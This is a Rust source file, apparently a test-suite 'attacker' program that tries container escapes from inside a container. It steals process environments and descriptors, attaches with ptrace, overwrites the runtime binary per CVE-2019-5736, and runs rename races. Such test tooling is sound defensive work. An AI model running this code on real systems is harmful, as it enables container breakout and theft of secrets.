// SPDX-License-Identifier: Apache-2.0
//! A hostile program: does from inside a container what published attacks on runtimes did, and prints as JSON how far it came.
//!
//! Runs in the containers of the attack suite, statically linked, with the rights that the container gives it. It goes on
//! until the file `stop` is there: a test ends it when it has seen enough. The file `progress` beside it says how many rounds
//! it has made, and how much it has got hold of: a test waits for that, and not for a time.
//!
//! ```text
//! attacker steal STOP              takes what it can from processes that enter: descriptors, memory, root, environment
//! attacker trace STOP              attaches to processes that enter, by both requests of ptrace(2), and looks who is stopped then
//! attacker clobber STOP            opens foreign programs through /proc/PID/exe, then writes them when nobody executes them
//! attacker swap STOP FOLDER A B    exchanges two names of a folder, again and again
//! ```

use std::collections::BTreeMap;
use std::fs::{self, File, OpenOptions};
use std::io::{Read as _, Write as _};
use std::os::fd::AsRawFd as _;
use std::os::unix::fs::MetadataExt as _;
use std::path::Path;
use std::process::ExitCode;

use nix::sys::ptrace;
use nix::sys::signal::{Signal, kill};
use nix::sys::wait::{WaitPidFlag, waitpid};
use rustix::fs::{RenameFlags, renameat_with};
use rustix::io::Errno;
use rustix::process::{Pid, PidfdFlags, PidfdGetfdFlags, pidfd_getfd, pidfd_open};
use serde_json::{Value, json};

fn main() -> ExitCode {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let words: Vec<&str> = args.iter().map(String::as_str).collect();
    let report = match words.as_slice() {
        ["steal", stop] => steal(Path::new(stop)),
        ["trace", stop] => trace(Path::new(stop)),
        ["clobber", stop] => clobber(Path::new(stop)),
        ["swap", stop, folder, a, b] => swap(Path::new(stop), Path::new(folder), a, b),
        _ => json!({"usage": "attacker steal STOP | trace STOP | clobber STOP | swap STOP FOLDER A B"}),
    };
    // Nobody is left to be told when standard output is closed.
    writeln!(std::io::stdout(), "{report}").ok();
    ExitCode::SUCCESS
}

/// What was tried how often, by outcome.
type Tally = BTreeMap<String, u64>;

fn count(tally: &mut Tally, what: &str) {
    *tally.entry(what.into()).or_default() += 1;
}

fn outcome<T>(tally: &mut Tally, what: &str, result: &std::io::Result<T>) {
    let word = match result {
        Ok(_) => "ok".into(),
        Err(error) => name_of(error),
    };
    count(tally, &format!("{what} {word}"));
}

fn name_of(error: &std::io::Error) -> String {
    match Errno::from_io_error(error) {
        Some(Errno::ACCESS) => "EACCES".into(),
        Some(Errno::PERM) => "EPERM".into(),
        Some(Errno::ROFS) => "EROFS".into(),
        Some(Errno::TXTBSY) => "ETXTBSY".into(),
        Some(Errno::NOENT | Errno::SRCH) => "gone".into(),
        Some(other) => format!("errno {}", other.raw_os_error()),
        None => "unknown".into(),
    }
}

/// Says how far we are, and whether that is enough.
fn over(stop: &Path, rounds: u64, got: u64) -> bool {
    // A test that reads half of it reads it again.
    fs::write(stop.with_file_name("progress"), format!("{rounds} {got}\n")).ok();
    stop.exists()
}

/// Every process that we see but ourselves.
fn others() -> Vec<i32> {
    let own = i32::try_from(std::process::id()).unwrap_or(0);
    let entries = fs::read_dir("/proc").into_iter().flatten().flatten();
    let pids = entries.filter_map(|entry| entry.file_name().to_str()?.parse().ok());
    pids.filter(|pid| *pid != own).collect()
}

/// What a process executes, as far as we can tell.
#[derive(PartialEq)]
enum Executes {
    /// A program of the container's: fair game, and no theft.
    Ours,
    /// Something else that we can look at.
    Foreign,
    /// We may not know.
    Hidden,
    Gone,
}

fn executes(pid: i32) -> Executes {
    match fs::metadata(format!("/proc/{pid}/exe")) {
        Ok(program) if is_ours(&program) => Executes::Ours,
        Ok(_) => Executes::Foreign,
        Err(error) if matches!(Errno::from_io_error(&error), Some(Errno::ACCESS | Errno::PERM)) => Executes::Hidden,
        Err(_) => Executes::Gone,
    }
}

/// Whether it is one of the files in /bin of our root.
fn is_ours(program: &fs::Metadata) -> bool {
    let files = fs::read_dir("/bin").into_iter().flatten().flatten();
    let mut found = files.filter_map(|entry| fs::symlink_metadata(entry.path()).ok());
    found.any(|file| (file.dev(), file.ino()) == (program.dev(), program.ino()))
}

/// Tries everything on every process that is not (yet) one of the container's programs. A prize counts only if the process
/// still executes the foreign program after we got it: it cannot come back to that, so we got it from there.
fn steal(stop: &Path) -> Value {
    let (mut tried, mut prizes, mut met) = (Tally::new(), Vec::<String>::new(), 0_u64);
    for round in 0.. {
        if over(stop, round, met) {
            break;
        }
        for pid in others() {
            if !matches!(executes(pid), Executes::Foreign | Executes::Hidden) {
                continue;
            }
            met += 1;
            let mut got = Vec::new();
            take_files(pid, &mut tried, &mut got);
            take_descriptors(pid, &mut tried, &mut got);
            take_memory(pid, &mut tried, &mut got);
            if matches!(executes(pid), Executes::Foreign | Executes::Hidden) {
                prizes.append(&mut got);
            }
        }
    }
    prizes.sort();
    prizes.dedup();
    json!({"met": met, "tried": tried, "prizes": prizes})
}

fn take_files(pid: i32, tried: &mut Tally, got: &mut Vec<String>) {
    for name in ["exe", "root", "cwd", "environ", "fd", "maps", "ns/mnt"] {
        let path = format!("/proc/{pid}/{name}");
        let opened = match name {
            "fd" => fs::read_dir(&path).map(|entries| {
                let links = entries.flatten().filter_map(|entry| fs::read_link(entry.path()).ok());
                links.map(|link| link.display().to_string()).collect::<Vec<_>>().join(" ")
            }),
            "environ" | "maps" => read(&path),
            _ => fs::metadata(&path).map(|_| fs::read_link(&path).unwrap_or_default().display().to_string()),
        };
        outcome(tried, name, &opened);
        // Root may list the numbers of anybody's descriptors, and read no link among them: an empty hand is no prize.
        if let Some(content) = opened.ok().filter(|content| !content.is_empty()) {
            got.push(format!("{name}: {}", content.chars().take(200).collect::<String>()));
        }
    }
}

fn read(path: &str) -> std::io::Result<String> {
    let mut bytes = Vec::new();
    File::open(path)?.read_to_end(&mut bytes)?;
    Ok(String::from_utf8_lossy(&bytes).replace('\0', " "))
}

fn take_descriptors(pid: i32, tried: &mut Tally, got: &mut Vec<String>) {
    let Some(raw) = Pid::from_raw(pid) else { return };
    let Ok(process) = pidfd_open(raw, PidfdFlags::empty()) else { return };
    for number in 0..16 {
        let taken = pidfd_getfd(&process, number, PidfdGetfdFlags::empty()).map_err(std::io::Error::from);
        outcome(tried, "pidfd_getfd", &taken);
        if let Ok(fd) = taken {
            let link = fs::read_link(format!("/proc/self/fd/{}", fd.as_raw_fd())).unwrap_or_default();
            got.push(format!("descriptor {number}: {}", link.display()));
        }
    }
}

/// Both ways to write another's memory pass the check of ptrace(2): so would an attach.
fn take_memory(pid: i32, tried: &mut Tally, got: &mut Vec<String>) {
    let opened = OpenOptions::new().read(true).write(true).open(format!("/proc/{pid}/mem"));
    outcome(tried, "mem", &opened);
    if opened.is_ok() {
        got.push("mem".into());
    }
}

/// Attaches to whoever appears, without looking first: looking is time that the other uses to become harmless. Whom we hold is
/// stopped, and does not change any more while we look.
fn trace(stop: &Path) -> Value {
    let (mut tried, mut prizes, mut met) = (Tally::new(), Vec::<String>::new(), 0_u64);
    let mut seized_last = false;
    for round in 0.. {
        if over(stop, round, met) {
            break;
        }
        for pid in others() {
            seized_last = !seized_last;
            let victim = nix::unistd::Pid::from_raw(pid);
            let (what, attached) = match seized_last {
                true => ("attach", ptrace::attach(victim)),
                false => ("seize", ptrace::seize(victim, ptrace::Options::empty())),
            };
            outcome(&mut tried, what, &attached.map_err(std::io::Error::from));
            // Whom we may not trace, we may not look at either: that is how a process on its way in is known.
            met += u64::from(attached.is_err() && executes(pid) == Executes::Hidden);
            if attached.is_err() {
                continue;
            }
            if what == "seize" {
                outcome(&mut tried, "interrupt", &ptrace::interrupt(victim).map_err(std::io::Error::from));
            }
            // Its end would be ours to hear, too: nobody else hears of it until we have.
            let stopped = waitpid(victim, Some(WaitPidFlag::__WALL));
            if matches!(executes(pid), Executes::Foreign | Executes::Hidden) {
                prizes.push(format!("{what}: {}", if stopped.is_ok() { "stopped" } else { "held" }));
            }
            outcome(&mut tried, "detach", &ptrace::detach(victim, None).map_err(std::io::Error::from));
            // Another stop may have come before that of the attach, which would keep it for ever.
            outcome(&mut tried, "continue", &kill(victim, Signal::SIGCONT).map_err(std::io::Error::from));
        }
    }
    prizes.dedup();
    json!({"met": met, "tried": tried, "prizes": prizes})
}

/// CVE-2019-5736: holds every foreign program that it can open, and tries to write it until the kernel has something else to
/// say than that somebody executes it.
fn clobber(stop: &Path) -> Value {
    let (mut held, mut said) = (Vec::<File>::new(), Tally::new());
    let (mut known, mut written) = (Vec::<(u64, u64)>::new(), 0);
    for round in 0.. {
        if over(stop, round, held.len() as u64) {
            break;
        }
        for pid in others() {
            if executes(pid) == Executes::Foreign
                && let Ok(program) = File::open(format!("/proc/{pid}/exe"))
                && let Ok(file) = program.metadata()
                && !is_ours(&file)
                && !known.contains(&(file.dev(), file.ino()))
            {
                known.push((file.dev(), file.ino()));
                held.push(program);
            }
        }
        for program in &held {
            written += u64::from(overwrite(program, &mut said));
        }
    }
    json!({"held": held.len(), "said": said, "written": written})
}

/// Through the descriptor's own place in /proc, so that the file is opened anew, whatever its name.
fn overwrite(program: &File, said: &mut Tally) -> bool {
    let path = format!("/proc/self/fd/{}", program.as_raw_fd());
    let opened = OpenOptions::new().write(true).open(path).and_then(|mut file| file.write_all(b"pwned"));
    outcome(said, "write", &opened);
    opened.is_ok()
}

/// What every race against a mount needs: two names that trade places faster than anybody can look twice.
fn swap(stop: &Path, folder: &Path, a: &str, b: &str) -> Value {
    let Ok(folder) = File::open(folder) else { return json!({"swaps": 0}) };
    let mut swaps = 0_u64;
    while !over(stop, swaps, 0) {
        for _ in 0..256 {
            swaps += u64::from(renameat_with(&folder, a, &folder, b, RenameFlags::EXCHANGE).is_ok());
        }
    }
    json!({"swaps": swaps})
}
